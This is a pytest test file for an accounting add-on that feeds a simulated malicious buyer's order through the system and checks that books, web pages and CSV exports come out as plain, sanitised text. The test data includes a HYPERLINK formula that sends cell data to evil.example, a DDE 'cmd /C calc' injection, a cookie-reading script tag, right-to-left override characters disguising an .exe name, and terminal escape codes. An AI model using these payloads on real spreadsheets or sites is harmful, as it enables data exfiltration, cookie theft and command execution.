"""A buyer who means no good: what he writes into his order reaches books, pages and files as plain words."""

import csv
import io
import unicodedata
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import fields, is_dataclass
from typing import Any

import pytest

from addon.services import exports, installation, pages
from tests.flow.house import House
from tests.web.conftest import make_app
from tests.web.html import check_html

TURNED = "\u202egnp.exe\u2066\u200b"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
SCRIPT = "<script>alert(document.cookie)</script>"
NAME = f"{FORMULA} {SCRIPT} {TURNED}\x07\x1b[31m Åsa & Öberg"
STARTS = ("=", "+", "-", "@", "\t", "\r", "|", "%")


def plain(text: str) -> bool:
    """Whether a text has nothing that hides, turns text round or commands a terminal."""
    return not any(unicodedata.category(letter) in ("Cc", "Cf", "Cs", "Co") for letter in text if letter != "\n")


def texts_in(value: Any) -> Iterator[str]:
    """Every text in something that the simulated books keep."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, Mapping):
        for inner in value.values():
            yield from texts_in(inner)
    elif isinstance(value, list | tuple):
        for inner in value:
            yield from texts_in(inner)
    elif is_dataclass(value):
        for part in fields(value):
            yield from texts_in(getattr(value, part.name))


@pytest.fixture
def attacked(plus: House) -> House:
    plus.sells(
        "2026-03-02",
        1_250_00,
        order="@SUM(1+1)*cmd|' /C calc'!A0",
        name=NAME,
        email="eve@example.com",
        description=f"{FORMULA}{TURNED}",
    )
    plus.opens()
    plus.runs()
    return plus


def test_what_stands_in_the_books_is_plain_words(attacked: House) -> None:
    attacked.all_is_well()
    kept = (*attacked.books.customers.values(), *attacked.books.invoices.values())
    written = [text for holder in kept for text in texts_in(holder)]
    assert any("Åsa" in text for text in written), [ascii(text) for text in written]
    for text in [*written, *(voucher.description for voucher in attacked.books.ledger)]:
        assert plain(text), ascii(text)
        assert "<script" not in text


def test_pages_show_it_as_words(attacked: House) -> None:
    services = attacked.town.services
    from addon.config import load_settings

    settings = load_settings({"KVITT_ENV": "test", **attacked.town.running.environment()})
    client = make_app(services, settings).test_client()
    client.set_cookie("kvitt", installation.sign_in(services, attacked.company_id, NAME))
    found = pages.transactions(services, attacked.company_id, pages.TransactionFilter()).lines
    addresses = ["/overview", "/transactions", "/activity", "/inbox", *(f"/transactions/{line.id}" for line in found)]
    for address in addresses:
        answer = client.get(address)
        assert answer.status_code == 200, address
        check_html(answer.text)
        assert SCRIPT not in answer.text
        assert plain(answer.text.replace("\u00ad", "")), address
    assert any("Öberg" in client.get(address).text for address in addresses)


def test_files_for_spreadsheets_hold_no_formula(attacked: House) -> None:
    services = attacked.town.services
    with zipfile.ZipFile(io.BytesIO(exports.csv_pack(services, attacked.company_id, 2026))) as pack:
        tables = {name: pack.read(name).decode("utf-8-sig") for name in pack.namelist() if name.endswith(".csv")}
    assert tables
    cells = [cell for text in tables.values() for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("Öberg" in cell or "SUM" in cell for cell in cells)
    for cell in cells:
        assert plain(cell), ascii(cell)
        number = cell.lstrip("-").replace(".", "", 1)
        assert not cell.startswith(STARTS) or number.isdecimal(), cell


def test_ten_megabytes_of_metadata_keep_nobody_from_booking(plus: House) -> None:
    charge = plus.sells("2026-03-02", 1_250_00)
    big = {f"key{number}": "x" * 200_000 for number in range(50)}
    plus.stripe.charges.get(charge).metadata.update(big)
    plus.sells("2026-03-03", 99_00)
    plus.opens()
    plus.runs()
    assert plus.kinds()["sale"] == 2
    plus.all_is_well()
